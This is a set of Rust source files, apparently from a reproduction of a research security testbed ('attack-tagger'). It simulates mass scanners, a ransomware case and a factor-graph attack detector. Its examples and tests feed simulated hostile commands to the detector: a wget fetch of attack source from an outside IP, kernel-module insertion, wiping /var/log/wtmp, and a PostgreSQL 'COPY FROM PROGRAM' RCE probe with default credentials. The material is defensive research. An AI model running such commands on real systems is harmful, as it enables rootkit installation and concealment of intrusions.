        let b = g.add_node("b", NodeGroup::Target);
        g.add_edge(a, b);
        let svg = to_svg(&g, &vec![(0.0, 0.0), (1.0, 1.0)], &SvgOptions::default());
        assert!(svg.starts_with("<svg"));
        assert!(svg.trim_end().ends_with("</svg>"));
        assert_eq!(svg.matches("<circle").count(), 2);
        assert_eq!(svg.matches("<line").count(), 1);
        assert!(svg.contains("#ff8c00"), "mass scanner colored orange");
        assert!(svg.contains("#0033cc"), "target colored blue");
    }

    #[test]
    fn empty_graph_renders() {
        let g = Graph::new();
        let svg = to_svg(&g, &Vec::new(), &SvgOptions::default());
        assert!(svg.contains("</svg>"));
    }

    #[test]
    fn hub_scaled_by_degree() {
        let mut g = Graph::new();
        let hub = g.add_node("hub", NodeGroup::MassScanner);
        let mut positions = vec![(0.0, 0.0)];
        for i in 0..100 {
            let l = g.add_node(format!("l{i}"), NodeGroup::Internal);
            g.add_edge(hub, l);
            positions.push((i as f64, 1.0));
        }
        let svg = to_svg(&g, &positions, &SvgOptions::default());
        // Hub circle radius > leaf radius: find the orange circle's r.
        let orange = svg.lines().find(|l| l.contains("#ff8c00")).unwrap();
        let leaf = svg.lines().find(|l| l.contains("#7eb6ff")).unwrap();
        let radius = |line: &str| -> f64 {
            let start = line.find("r=\"").unwrap() + 3;
            let end = line[start..].find('"').unwrap();
            line[start..start + end].parse().unwrap()
        };
        assert!(radius(orange) > 2.0 * radius(leaf));
    }
}
