//! Adversarial evaluation: generate a campaign of mutated attack variants,
//! run it through the sharded pipeline, and score preemption against
//! ground truth — all from the single `TestbedConfig::seed`.
//!
//! ```text
//! cargo run --release --example adversarial_eval
//! ```
//!
//! Writes the `EvalReport` JSON to `ADVERSARIAL_EVAL.json` (or
//! `$EVAL_OUT`).

use attack_tagger::prelude::*;
use scenario::mutate::{CampaignConfig, MutationConfig};
use scenario::stream::RecordStreamConfig;

fn main() {
    // One seed reproduces everything below: campaign structure, timing,
    // background load, and therefore the whole evaluation.
    let mut cfg = TestbedConfig {
        seed: 0x5C24,
        ..TestbedConfig::default()
    };
    cfg.tuning.executor = ExecutorKind::Sharded;

    // 64 sessions across the eight families: a quarter of them low-and-slow
    // (8x dilation), some decoys, some lateral multi-entity campaigns —
    // interleaved with a day of background scanning and user activity.
    let campaign_cfg = CampaignConfig {
        sessions: 64,
        mutation: MutationConfig {
            dilation: 8.0,
            decoy_prob: 0.15,
            lateral_prob: 0.4,
            ..MutationConfig::default()
        },
        background: Some(RecordStreamConfig {
            scan_records: 30_000,
            benign_flows: 10_000,
            exec_records: 25_000,
            users: 800,
            // Mostly-benign background, so FP-per-million measures false
            // alarms rather than planted suspicious commands.
            indicative_exec_fraction: 0.02,
            ..RecordStreamConfig::default()
        }),
        ..CampaignConfig::default()
    };

    let run = testbed::run_campaign(&cfg, &campaign_cfg, detect::train::toy_training_model());

    println!("=== Adversarial campaign evaluation ===");
    println!(
        "campaign: {} sessions ({} attack / {} decoy) over {} background records",
        run.eval.sessions,
        run.eval.attack_sessions,
        run.eval.decoy_sessions,
        run.eval.background_records,
    );
    println!(
        "pipeline: {} records -> {} alerts -> {} admitted -> {} detections",
        run.stream.stats.records,
        run.stream.stats.alerts,
        run.stream.stats.admitted,
        run.stream.stats.detections,
    );
    println!();
    println!("{}", run.eval.table());

    let out = std::env::var("EVAL_OUT").unwrap_or_else(|_| "ADVERSARIAL_EVAL.json".to_string());
    std::fs::write(
        &out,
        serde_json::to_string_pretty(&run.eval.to_json()).expect("serialize"),
    )
    .expect("write eval report");
    println!("[artifact] {out}");

    // The example doubles as a smoke check of the headline claims.
    assert!(
        run.eval.overall.detected * 2 > run.eval.attack_sessions,
        "most mutated variants must still be detected"
    );
    assert!(run.eval.overall.preempted > 0, "preemption must occur");
}
