//! Honeynet + Black Hole Router demo: a mass scanner sweeps the /16, the
//! rate policy auto-blocks it at the border, and the BHR records the scans
//! that keep arriving — the same data source behind Fig. 1 ("NCSA's black
//! hole router recorded 26.85 million scans").
//!
//! ```text
//! cargo run --example honeynet_blocking
//! ```

use attack_tagger::prelude::*;

fn main() {
    let mut tb = Testbed::new(TestbedConfig::default());
    let start = tb.config().start;

    // A fast mass scanner (thousands of probes per minute) and a slow,
    // patient scanner that stays under the rate threshold.
    let fast: std::net::Ipv4Addr = "103.102.8.9".parse().unwrap();
    let slow: std::net::Ipv4Addr = "77.72.3.4".parse().unwrap();
    let production = simnet::addr::ncsa_production();
    let mut actions = Vec::new();
    let mut id = 0u64;
    for i in 0..5_000u64 {
        let t = start + SimDuration::from_millis(i * 20); // 50 probes/sec
        id += 1;
        actions.push((
            t,
            Action::Flow(Flow::probe(
                FlowId(id),
                t,
                fast,
                production.nth(i % 65_536),
                5432,
            )),
        ));
    }
    for i in 0..60u64 {
        let t = start + SimDuration::from_mins(i * 3); // one probe per 3 min
        id += 1;
        actions.push((
            t,
            Action::Flow(Flow::probe(
                FlowId(id),
                t,
                slow,
                production.nth(i * 997 % 65_536),
                22,
            )),
        ));
    }
    tb.schedule(actions);
    let report = tb.run();

    println!("=== Honeynet + BHR blocking ===");
    println!("{}", report.summary());
    println!();
    println!("BHR table stats : {:?}", report.bhr);
    let t_end = start + SimDuration::from_hours(4);
    println!("fast scanner blocked: {}", tb.bhr().is_blocked(t_end, fast));
    println!("slow scanner blocked: {}", tb.bhr().is_blocked(t_end, slow));
    println!();
    println!("BHR audit log (first 5 calls):");
    for e in tb.bhr().audit_log().iter().take(5) {
        println!("  [{}] {} {:?} {}", e.ts, e.command, e.addr, e.detail);
    }
    assert!(
        tb.bhr().is_blocked(t_end, fast),
        "rate policy must catch the fast scanner"
    );
    assert!(
        !tb.bhr().is_blocked(t_end, slow),
        "slow scanner stays under the rate threshold"
    );
    println!("done.");
}
