//! The §II measurement study on a generated longitudinal corpus: attack
//! similarity (Insight 1), common-sequence mining (Insight 2), timing
//! dispersion (Insight 3) and critical-alert lateness (Insight 4).
//!
//! ```text
//! cargo run --example incident_mining
//! ```

use attack_tagger::prelude::*;
use mining::{
    compare_phase_timing, measure_criticality, measure_recurrence, mine_common_patterns,
    s1_pattern, similarity_cdf,
};

fn main() {
    let store = scenario::generate_corpus(&LongitudinalConfig::default());
    println!("=== Longitudinal corpus ===");
    println!("incidents      : {}", store.len());
    println!("total alerts   : {}", store.total_alerts());
    println!("families       : {}", store.families().len());
    println!();

    // Insight 1: pairwise Jaccard similarity CDF (Fig. 3a).
    let cdf = similarity_cdf(&store);
    println!("=== Insight 1: attack similarity (Fig. 3a) ===");
    println!("pairs          : {}", cdf.len());
    println!(
        "fraction <=33% : {:.3} (paper: >= 0.95)",
        cdf.fraction_le(0.33)
    );
    println!("median         : {:.3}", cdf.quantile(0.5));
    println!();

    // Insight 2: common alert sequences (Fig. 3b). LcsPeers counts the
    // incidents whose shared signature with a peer is exactly the pattern
    // (see DESIGN.md on how this reconciles "S1 seen 14 times" with the
    // 60% motif prevalence).
    let patterns = mine_common_patterns(
        &store,
        &MinerConfig {
            min_len: 4,
            support: mining::lcs::SupportMode::LcsPeers,
            ..Default::default()
        },
    );
    println!("=== Insight 2: common sequences (Fig. 3b) ===");
    println!("patterns mined : {}", patterns.len());
    for p in patterns.iter().take(5) {
        println!(
            "  {}: support={} len={} [{}]",
            p.name(),
            p.support,
            p.len(),
            p.seq
                .iter()
                .map(|k| k.symbol())
                .collect::<Vec<_>>()
                .join(", ")
        );
    }
    println!();

    // The S1 recurrence claim.
    let rec = measure_recurrence(&store, &s1_pattern());
    println!("=== S1 motif recurrence ===");
    println!(
        "support        : {:.2}% ({}/{}) (paper: 60.08%)",
        100.0 * rec.support_fraction(),
        rec.hits,
        rec.total
    );
    println!(
        "span           : {:?} - {:?}",
        rec.first_year, rec.last_year
    );
    println!();

    // Insight 3: timing dispersion.
    if let Some(cmp) = compare_phase_timing(&store) {
        println!("=== Insight 3: timing ===");
        println!(
            "automated phase: mean gap {:.1}s cv {:.2}",
            cmp.automated.mean_gap_secs, cmp.automated.cv
        );
        println!(
            "manual phase   : mean gap {:.1}s cv {:.2}",
            cmp.manual.mean_gap_secs, cmp.manual.cv
        );
        println!("manual more variable: {}", cmp.manual_more_variable());
        println!();
    }

    // Insight 4: criticality.
    let crit = measure_criticality(&store);
    println!("=== Insight 4: critical alerts ===");
    println!(
        "unique critical kinds : {} (paper: 19)",
        crit.unique_critical_kinds
    );
    println!(
        "occurrences           : {} (paper: 98)",
        crit.critical_occurrences
    );
    println!(
        "mean relative position of first critical: {:.2} (late in the timeline)",
        crit.mean_first_critical_position
    );
    println!(
        "mean preemption budget: {:.1} alerts",
        crit.mean_preemption_budget
    );
}
