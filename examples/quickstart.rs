//! Quickstart: stand up the testbed, replay a classic S1 attack hidden in
//! scan noise, and watch the factor-graph detector preempt it — then run
//! the same stage pipeline as a sharded record stream via the builder API.
//!
//! ```text
//! cargo run --example quickstart
//! ```

use attack_tagger::prelude::*;

fn main() {
    // Part 1 — closed loop: the simulation engine drives the pipeline
    // sink (inline executor) with response wired back to the border BHR.
    // Pipeline knobs (batching, retention, shards) live on the config.
    let mut cfg = TestbedConfig::default();
    cfg.tuning.alert_retention = 2_000;
    let mut tb = Testbed::new(cfg);
    let start = tb.config().start;

    // Background: a mass scanner hammering SSH across the production /16.
    let scanner: std::net::Ipv4Addr = "103.102.8.9".parse().unwrap();
    let mut actions: Vec<(SimTime, Action)> = Vec::new();
    for i in 0..2_000u64 {
        let t = start + SimDuration::from_millis(500 * i);
        let dst = simnet::addr::ncsa_production().nth(i % 65_536);
        actions.push((t, Action::Flow(Flow::probe(FlowId(i), t, scanner, dst, 22))));
    }

    // The real attack: user "eve" walks the S1 pattern on a compute node
    // (download source over HTTP, compile a kernel module, wipe traces),
    // then exfiltrates.
    let host = simnet::topology::HostId(5);
    let attack = [
        "wget http://64.215.4.5/abs.c",
        "make -C /lib/modules/4.4.0/build modules",
        "insmod abs.ko",
        "echo 0>/var/log/wtmp",
    ];
    for (i, cmd) in attack.iter().enumerate() {
        let t = start + SimDuration::from_mins(10 + 7 * i as u64);
        actions.push((
            t,
            Action::Exec(ExecAction {
                host,
                user: "eve".into(),
                pid: 4_000 + i as u32,
                ppid: 1,
                exe: "/bin/bash".into(),
                cmdline: cmd.to_string(),
            }),
        ));
    }

    tb.schedule(actions);
    let report = tb.run();

    println!("=== AttackTagger quickstart ===");
    println!("{}", report.summary());
    println!();
    for n in &report.notifications {
        println!("[{}] OPERATOR NOTIFICATION: {}", n.ts, n.message);
    }
    assert!(
        !report.notifications.is_empty(),
        "the S1 chain should have been detected"
    );
    println!();
    println!(
        "scan noise collapsed by the filter: {} alerts seen -> {} admitted",
        report.filter.seen, report.filter.admitted
    );

    // Part 2 — the same Fig. 4 chain as a record-stream pipeline,
    // assembled explicitly with the builder and driven by the sharded
    // executor (detect stage partitioned per entity across the worker
    // pool). Results are byte-identical to the sequential executor.
    let records = scenario::record_stream(
        &scenario::RecordStreamConfig {
            scan_records: 20_000,
            benign_flows: 5_000,
            exec_records: 10_000,
            users: 500,
            ..scenario::RecordStreamConfig::default()
        },
        &mut SimRng::seed(7),
    );
    let n = records.len();
    let stream = PipelineBuilder::new()
        .executor(ExecutorKind::Sharded)
        .batch_size(256)
        .alert_retention(1_000)
        .block_on_detection(true, None)
        .build()
        .run(records);
    println!();
    println!(
        "sharded stream: {n} records -> {} alerts, {} admitted, {} detections, {} retained (+{} dropped)",
        stream.stats.alerts,
        stream.stats.admitted,
        stream.stats.detections,
        stream.retained_alerts.len(),
        stream.alerts_dropped,
    );
    assert!(
        stream.stats.detections > 0,
        "the command sessions should trip the detector"
    );
    println!("done.");
}
