//! Quickstart: stand up the testbed, replay a classic S1 attack hidden in
//! scan noise, and watch the factor-graph detector preempt it.
//!
//! ```text
//! cargo run --example quickstart
//! ```

use attack_tagger::prelude::*;

fn main() {
    let mut tb = Testbed::new(TestbedConfig::default());
    let start = tb.config().start;

    // Background: a mass scanner hammering SSH across the production /16.
    let scanner: std::net::Ipv4Addr = "103.102.8.9".parse().unwrap();
    let mut actions: Vec<(SimTime, Action)> = Vec::new();
    for i in 0..2_000u64 {
        let t = start + SimDuration::from_millis(500 * i);
        let dst = simnet::addr::ncsa_production().nth(i % 65_536);
        actions.push((t, Action::Flow(Flow::probe(FlowId(i), t, scanner, dst, 22))));
    }

    // The real attack: user "eve" walks the S1 pattern on a compute node
    // (download source over HTTP, compile a kernel module, wipe traces),
    // then exfiltrates.
    let host = simnet::topology::HostId(5);
    let attack = [
        "wget http://64.215.4.5/abs.c",
        "make -C /lib/modules/4.4.0/build modules",
        "insmod abs.ko",
        "echo 0>/var/log/wtmp",
    ];
    for (i, cmd) in attack.iter().enumerate() {
        let t = start + SimDuration::from_mins(10 + 7 * i as u64);
        actions.push((
            t,
            Action::Exec(ExecAction {
                host,
                user: "eve".into(),
                pid: 4_000 + i as u32,
                ppid: 1,
                exe: "/bin/bash".into(),
                cmdline: cmd.to_string(),
            }),
        ));
    }

    tb.schedule(actions);
    let report = tb.run();

    println!("=== AttackTagger quickstart ===");
    println!("{}", report.summary());
    println!();
    for n in &report.notifications {
        println!("[{}] OPERATOR NOTIFICATION: {}", n.ts, n.message);
    }
    assert!(
        !report.notifications.is_empty(),
        "the S1 chain should have been detected"
    );
    println!();
    println!(
        "scan noise collapsed by the filter: {} alerts seen -> {} admitted",
        report.filter.seen, report.filter.admitted
    );
    println!("done.");
}
