//! The §V case study, end to end: a ransomware family probes PostgreSQL
//! for a month, enters the honeypot through the advertised default
//! credentials, stages an ELF payload in a largeobject, drops `/tmp/kp`
//! via `lo_export`, spreads laterally with stolen SSH keys, and calls its
//! C2. The testbed detects it and the operator notification lands ~12 days
//! before the same family hits a production host.
//!
//! ```text
//! cargo run --example ransomware_replay
//! ```

use attack_tagger::prelude::*;
use detect::train::{train, TrainConfig};
use scenario::{build_scenario, RansomwareConfig};

fn main() {
    // Train the detector on the longitudinal corpus (as the deployed model
    // is trained on two decades of annotated incidents).
    let corpus = scenario::generate_corpus(&LongitudinalConfig::default());
    let mut rng = SimRng::seed(7);
    let benign = scenario::benign_sessions(&mut rng, 400, SimTime::from_date(2024, 1, 1));
    let model = train(&corpus, &benign, &TrainConfig::default());

    let mut cfg = TestbedConfig::default();
    let rw = RansomwareConfig::default();
    cfg.c2_feed.push(rw.c2_server);
    let mut tb = Testbed::new(cfg);
    tb.set_model(model);

    // Script the attack against the deployed honeynet.
    let scenario = {
        let topo = tb.topology().clone();
        build_scenario(&topo, tb.deployment_mut(), &rw)
    };
    let c2_time = scenario.c2_time;
    let production_time = scenario.production_time;
    println!("scripted {} actions", scenario.actions.len());
    tb.schedule(scenario.actions);
    let report = tb.run();

    println!("=== Ransomware case study (§V) ===");
    println!("{}", report.summary());
    println!();
    let first = report
        .first_notification()
        .expect("the ransomware must be detected");
    println!("first operator notification : {first}");
    println!("ransomware C2 communication : {c2_time}");
    println!("production wave begins      : {production_time}");
    let lead = production_time - first;
    println!(
        "preemption lead time        : {lead} ({} days)",
        lead.as_days()
    );
    for n in report.notifications.iter().take(3) {
        println!("  -> [{}] {}", n.ts, n.message);
    }
    assert!(
        first <= c2_time,
        "detection must happen no later than the C2 step the paper reports"
    );
    assert!(
        lead.as_days() >= 11,
        "the paper's 12-day lead should hold approximately"
    );
    println!();
    println!(
        "honeypot stats: {} sessions, {} auth failures, {} files dropped",
        tb.deployment().stats().sessions_opened,
        tb.deployment().stats().auth_failures,
        tb.deployment().stats().files_dropped,
    );
    println!("done.");
}
