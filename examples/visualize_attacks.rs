//! Reproduce Fig. 1: build the connection graph (mass scanner star, a
//! smaller scanner, legitimate traffic, and the two-edge real attack), lay
//! it out with the Yifan Hu algorithm, and export DOT + SVG.
//!
//! ```text
//! cargo run --release --example visualize_attacks
//! ```
//! Outputs `target/fig1.dot` and `target/fig1.svg`.

use attack_tagger::prelude::*;
use scenario::{fig1_flows, Fig1Config};
use vizgraph::{
    annotate_scanners, graph_from_flows, hub_dominance, layout, to_dot, to_svg, top_hubs,
    DotOptions, NodeGroup, SvgOptions,
};

fn main() {
    let mut rng = SimRng::seed(20_240_801);
    let (flows, gt) = fig1_flows(&Fig1Config::default(), &mut rng);
    println!("generated {} flows", flows.len());

    let mut graph = graph_from_flows(&flows, |a| {
        simnet::addr::ncsa_production().contains(a) || simnet::addr::ncsa_secondary().contains(a)
    });
    println!(
        "graph: {} nodes, {} edges (paper: 29,075 / 27,336)",
        graph.node_count(),
        graph.edge_count()
    );

    // Annotate: scanners structurally, attacker/targets from ground truth
    // (the paper annotates manually by cross-examining detector output).
    annotate_scanners(&mut graph, 20.0);
    graph.annotate(&gt.attacker.to_string(), NodeGroup::Attacker);
    for t in &gt.targets {
        graph.annotate(&t.to_string(), NodeGroup::Target);
    }

    println!("hub dominance: {:.2}", hub_dominance(&graph));
    for h in top_hubs(&graph, 3) {
        println!("  hub {} degree {}", h.label, h.degree);
    }

    let cfg = LayoutConfig {
        max_iters: 60,
        ..Default::default()
    };
    let t0 = std::time::Instant::now();
    let (positions, stats) = layout(&graph, &cfg);
    println!(
        "layout: {} levels, {} total iterations, converged={}, {:?}",
        stats.levels,
        stats.total_iterations,
        stats.converged,
        t0.elapsed()
    );

    let dot = to_dot(&graph, &DotOptions::default());
    std::fs::write("target/fig1.dot", &dot).expect("write dot");
    let svg = to_svg(&graph, &positions, &SvgOptions::default());
    std::fs::write("target/fig1.svg", &svg).expect("write svg");
    println!("wrote target/fig1.dot ({} bytes)", dot.len());
    println!("wrote target/fig1.svg ({} bytes)", svg.len());

    // The structural story of Fig. 1 holds: the mass scanner is the
    // dominant hub, while the real attack is two low-degree edges.
    let scanner_id = graph.id_of(&gt.mass_scanner.to_string()).unwrap();
    let attacker_id = graph.id_of(&gt.attacker.to_string()).unwrap();
    assert!(graph.degree(scanner_id) > 5_000);
    assert_eq!(graph.degree(attacker_id), 2);
    println!("done.");
}
