//! # attack-tagger — security testbed for preempting attacks against
//! supercomputing infrastructure
//!
//! Umbrella crate for the reproduction of *Security Testbed for Preempting
//! Attacks against Supercomputing Infrastructure* (Cao, Kalbarczyk, Iyer —
//! SC 2024 / arXiv:2409.09602). It re-exports every subsystem crate:
//!
//! | module | crate | role |
//! |---|---|---|
//! | [`simnet`] | `simnet` | discrete-event network/cluster substrate |
//! | [`telemetry`] | `telemetry` | Zeek/osquery/auditd-like monitors |
//! | [`alertlib`] | `alertlib` | taxonomy, symbolization, filtering, annotation |
//! | [`factorgraph`] | `factorgraph` | factors, BP, chain inference, learning |
//! | [`detect`] | `detect` | AttackTagger + baselines + metrics |
//! | [`mining`] | `mining` | Jaccard / LCS / timing / criticality analytics |
//! | [`honeynet`] | `honeynet` | VRT, containers, vulnerable services, isolation |
//! | [`bhr`] | `bhr` | Black Hole Router table/API/policy |
//! | [`scenario`] | `scenario` | incident & traffic generators, ransomware script |
//! | [`vizgraph`] | `vizgraph` | Fig. 1 graph + Yifan Hu layout + exports |
//! | [`testbed`] | `testbed` | the end-to-end ATTACKTAGGER pipeline |
//!
//! See `DESIGN.md` for the system inventory and `EXPERIMENTS.md` for the
//! per-figure/table reproduction index. The `examples/` directory contains
//! runnable walkthroughs (`quickstart`, `ransomware_replay`,
//! `incident_mining`, `honeynet_blocking`, `visualize_attacks`).
//!
//! ## Quickstart
//! ```
//! use attack_tagger::prelude::*;
//!
//! // Build the testbed and replay a short attack.
//! let mut tb = Testbed::new(TestbedConfig::default());
//! let start = tb.config().start;
//! let host = simnet::topology::HostId(0);
//! for (i, cmd) in [
//!     "wget http://64.215.4.5/abs.c",
//!     "make -C /lib/modules/4.4/build modules",
//!     "echo 0>/var/log/wtmp",
//! ]
//! .iter()
//! .enumerate()
//! {
//!     let t = start + SimDuration::from_mins(i as u64 + 1);
//!     tb.schedule(vec![(
//!         t,
//!         Action::Exec(ExecAction {
//!             host,
//!             user: "eve".into(),
//!             pid: 100 + i as u32,
//!             ppid: 1,
//!             exe: "/bin/sh".into(),
//!             cmdline: cmd.to_string(),
//!         }),
//!     )]);
//! }
//! let report = tb.run();
//! assert_eq!(report.detections, 1, "the S1 chain is preempted");
//! ```

pub use alertlib;
pub use bhr;
pub use detect;
pub use factorgraph;
pub use honeynet;
pub use mining;
pub use scenario;
pub use simnet;
pub use telemetry;
pub use testbed;
pub use vizgraph;

/// The most commonly used types across the workspace.
pub mod prelude {
    pub use alertlib::{Alert, AlertKind, Entity, Incident, IncidentStore, ScanFilter, Symbolizer};
    pub use bhr::{BhrFilter, BhrHandle};
    pub use detect::{AttackTagger, CriticalOnlyDetector, RuleBasedDetector, Stage, TaggerConfig};
    pub use factorgraph::{ChainLearner, ChainModel, Factor, FactorGraph};
    pub use honeynet::{HoneynetDeployment, PostgresEmulator, SnapshotRepo};
    pub use mining::{Cdf, CommonPattern, MinerConfig};
    pub use scenario::{
        Campaign, CampaignConfig, LongitudinalConfig, MutationConfig, RansomwareConfig,
    };
    pub use simnet::prelude::{
        Action, Cidr, Engine, ExecAction, Flow, FlowId, SimDuration, SimRng, SimTime, Topology,
    };
    pub use telemetry::{LogRecord, MonitorHub, ZeekMonitor};
    pub use testbed::{
        BuiltPipeline, CampaignRun, EvalReport, ExecutorKind, PipelineBuilder, PipelineTuning,
        RunReport, StreamReport, Testbed, TestbedConfig,
    };
    pub use vizgraph::{Graph, LayoutConfig};
}
