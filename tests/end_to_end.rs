//! Cross-crate integration tests: the full pipeline from scripted actions
//! to operator notifications and BHR response.

use attack_tagger::prelude::*;
use scenario::{build_scenario, RansomwareConfig};

/// The §V ransomware is preempted with ~12 days of lead over the
/// production wave, and the attacker source ends up null-routed.
#[test]
fn ransomware_preempted_with_twelve_day_lead() {
    let rw = RansomwareConfig::default();
    let mut cfg = TestbedConfig::default();
    cfg.c2_feed.push(rw.c2_server);
    let mut tb = Testbed::new(cfg);

    let scenario = {
        let topo = tb.topology().clone();
        build_scenario(&topo, tb.deployment_mut(), &rw)
    };
    let c2_time = scenario.c2_time;
    let production_time = scenario.production_time;
    tb.schedule(scenario.actions);
    let report = tb.run();

    let first = report.first_notification().expect("detection required");
    assert!(
        first <= c2_time,
        "preemption must be no later than the C2 step"
    );
    let lead = production_time - first;
    assert!(
        lead.as_days() >= 11,
        "expected ~12 days of lead, got {}",
        lead.as_days()
    );
    assert!(report.detections >= 1);
    // The ransomware source was null-routed by the response stage.
    assert!(
        tb.bhr().is_blocked(production_time, rw.attacker),
        "detected attacker source must be blocked"
    );
}

/// Mass scanning is absorbed: auto-blocked at the border, filtered in the
/// pipeline, and never detected as an attack.
#[test]
fn scanner_flood_absorbed_without_false_positives() {
    let mut tb = Testbed::new(TestbedConfig::default());
    let start = tb.config().start;
    let production = simnet::addr::ncsa_production();
    let mut actions = Vec::new();
    for i in 0..10_000u64 {
        let t = start + SimDuration::from_millis(i * 10);
        actions.push((
            t,
            Action::Flow(Flow::probe(
                FlowId(i),
                t,
                "103.102.8.9".parse().unwrap(),
                production.nth(i % 65_536),
                22,
            )),
        ));
    }
    tb.schedule(actions);
    let report = tb.run();
    assert_eq!(
        report.detections, 0,
        "scans alone must not raise detections"
    );
    assert!(
        report.router.dropped > 9_000,
        "auto-block must absorb the flood"
    );
    assert!(
        report.alerts_filtered < 100,
        "scan filter must collapse the flood (got {})",
        report.alerts_filtered
    );
}

/// Full measurement-study loop: generate the corpus, train, evaluate —
/// the factor-graph detector preempts most incidents; critical-only never
/// preempts (Insight 4); benign sessions stay quiet.
#[test]
fn corpus_train_evaluate_loop() {
    let store = scenario::generate_corpus(&LongitudinalConfig {
        total_incidents: 80,
        critical_occurrences: 40,
        ..Default::default()
    });
    let mut rng = SimRng::seed(9);
    let benign = scenario::benign_sessions(&mut rng, 100, SimTime::from_date(2024, 1, 1));
    let model = detect::train::train(&store, &benign, &detect::train::TrainConfig::default());

    let tagger = AttackTagger::new(model, TaggerConfig::default());
    let (_, tagger_eval) = detect::evaluate(&tagger, &store, &benign);
    assert!(tagger_eval.recall > 0.9, "recall {}", tagger_eval.recall);
    assert!(
        tagger_eval.precision > 0.9,
        "precision {}",
        tagger_eval.precision
    );
    assert!(
        tagger_eval.preemption_rate > 0.4,
        "preemption {}",
        tagger_eval.preemption_rate
    );

    let critical = CriticalOnlyDetector::new();
    let (_, crit_eval) = detect::evaluate(&critical, &store, &benign);
    assert_eq!(crit_eval.preemption_rate, 0.0, "Insight 4");
    assert!(tagger_eval.preemption_rate > crit_eval.preemption_rate);
}

/// The honeynet contains egress: a compromised honeypot host cannot reach
/// the Internet, and the containment itself produces an alert.
#[test]
fn honeynet_egress_containment_alerts() {
    let mut tb = Testbed::new(TestbedConfig::default());
    let entry = tb.deployment().entry_addrs()[0];
    let start = tb.config().start;
    let mut actions = Vec::new();
    for i in 0..5u64 {
        let t = start + SimDuration::from_secs(30 * i);
        actions.push((
            t,
            Action::Flow(Flow::probe(
                FlowId(i),
                t,
                entry,
                "194.145.22.33".parse().unwrap(),
                443,
            )),
        ));
    }
    tb.schedule(actions);
    let report = tb.run();
    assert_eq!(report.router.dropped, 5, "all egress attempts dropped");
    assert!(report.alerts >= 5, "isolation monitor must alert on drops");
}

/// Determinism: the same seed and workload give bit-identical reports.
#[test]
fn runs_are_deterministic() {
    let run = || {
        let mut tb = Testbed::new(TestbedConfig::default());
        let start = tb.config().start;
        let mut actions = Vec::new();
        let mut rng = SimRng::seed(77);
        for i in 0..500u64 {
            let t = start + SimDuration::from_secs(i);
            let dst = simnet::addr::ncsa_production().nth(rng.range_u64(0, 65_536));
            actions.push((
                t,
                Action::Flow(Flow::probe(
                    FlowId(i),
                    t,
                    "91.247.1.1".parse().unwrap(),
                    dst,
                    22,
                )),
            ));
        }
        tb.schedule(actions);
        let r = tb.run();
        (
            r.actions,
            r.records,
            r.alerts,
            r.alerts_filtered,
            r.detections,
            r.router.dropped,
        )
    };
    assert_eq!(run(), run());
}

/// The VRT → container → service chain: a 2019 build is exploitable, a
/// 2021 build is not (`COPY FROM PROGRAM` gated by version).
#[test]
fn vrt_gates_vulnerability_exposure() {
    use honeynet::{PostgresEmulator, SnapshotRepo};
    let repo = SnapshotRepo::with_debian_history();
    let old = repo
        .resolve(SimTime::from_date(2019, 6, 1), &["postgresql"])
        .unwrap();
    let new = repo
        .resolve(SimTime::from_date(2021, 1, 1), &["postgresql"])
        .unwrap();

    for (snap, expect_rce) in [(old, true), (new, false)] {
        let version = snap.version_of("postgresql").unwrap();
        let mut pg = PostgresEmulator::with_default_credentials(version);
        use honeynet::VulnerableService;
        assert!(pg.try_auth("postgres", "postgres"));
        let mut session = honeynet::SessionCtx {
            user: Some("postgres".into()),
            commands: 0,
        };
        let out = pg.execute(&mut session, "COPY t FROM PROGRAM 'id'");
        assert_eq!(out.ok, expect_rce, "version {version}");
    }
}

/// Fig. 1 structure survives the full flow→graph→layout path.
#[test]
fn fig1_graph_structure() {
    use scenario::{fig1_flows, Fig1Config};
    use vizgraph::{graph_from_flows, top_hubs};
    let mut rng = SimRng::seed(1);
    let cfg = Fig1Config {
        scanner_flows: 2_000,
        secondary_flows: 100,
        legit_nodes: 3_000,
        legit_flows: 2_500,
    };
    let (flows, gt) = fig1_flows(&cfg, &mut rng);
    let graph = graph_from_flows(&flows, |a| simnet::addr::ncsa_production().contains(a));
    // The mass scanner is the top hub; the real attack is two edges.
    let hubs = top_hubs(&graph, 1);
    assert_eq!(hubs[0].label, gt.mass_scanner.to_string());
    let attacker = graph.id_of(&gt.attacker.to_string()).unwrap();
    assert_eq!(graph.degree(attacker), 2);
}
