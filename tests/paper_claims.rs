//! Regression tests pinning the paper's published claims to the
//! reproduction, on reduced-scale (fast) versions of each experiment.
//! The full-scale harnesses live in `crates/bench/src/bin/`.

use attack_tagger::prelude::*;

fn corpus() -> IncidentStore {
    scenario::generate_corpus(&LongitudinalConfig::default())
}

/// Table I: more than 200 incidents over 2000–2024.
#[test]
fn claim_table1_corpus_shape() {
    let store = corpus();
    assert!(store.len() > 200);
    let years: Vec<i32> = store.iter().map(|i| i.year).collect();
    assert!(*years.iter().min().unwrap() >= 2000);
    assert!(*years.iter().max().unwrap() <= 2024);
}

/// Insight 1 / Fig. 3a: the vast majority of attack pairs share at most a
/// third of their alerts.
#[test]
fn claim_insight1_similarity_knee() {
    let store = corpus();
    let frac = mining::fraction_pairs_below(&store, 0.33);
    assert!(frac > 0.9, "fraction ≤0.33 was {frac}, paper reports ≥0.95");
}

/// Insight 2 / Fig. 3b: 43 recurring sequences exist; the planted family
/// sizes run 14 down to 2.
#[test]
fn claim_insight2_pattern_catalogue() {
    let supports = scenario::s_pattern_supports();
    assert_eq!(supports.len(), 43);
    assert_eq!(supports[0], 14);
    assert_eq!(*supports.last().unwrap(), 2);
    let mut rng = SimRng::seed(42);
    let sigs = scenario::s_pattern_signatures(&mut rng);
    assert!(sigs.iter().all(|s| (2..=14).contains(&s.len())));
}

/// §I: the S1 motif appears in 60.08% of incidents, 2002→2024.
#[test]
fn claim_s1_motif_prevalence() {
    let mut store = corpus();
    scenario::pin_motif_span(&mut store);
    let rec = mining::measure_recurrence(&store, &mining::s1_pattern());
    assert_eq!(rec.hits, 137, "137 of 228 incidents");
    assert!((rec.support_fraction() - 0.6008).abs() < 0.005);
    assert!(rec.first_year.unwrap() <= 2002 && rec.last_year.unwrap() >= 2024);
}

/// Insight 4: 19 unique critical kinds occurring 98 times; critical
/// alerts arrive at the end of the timeline.
#[test]
fn claim_insight4_criticality() {
    let store = corpus();
    let crit = mining::measure_criticality(&store);
    assert_eq!(crit.unique_critical_kinds, 19);
    assert_eq!(crit.critical_occurrences, 98);
    assert!(crit.criticals_come_late());
}

/// Insight 3: the manual attack stage is more variable than the
/// automated scanning stage.
#[test]
fn claim_insight3_timing() {
    let store = corpus();
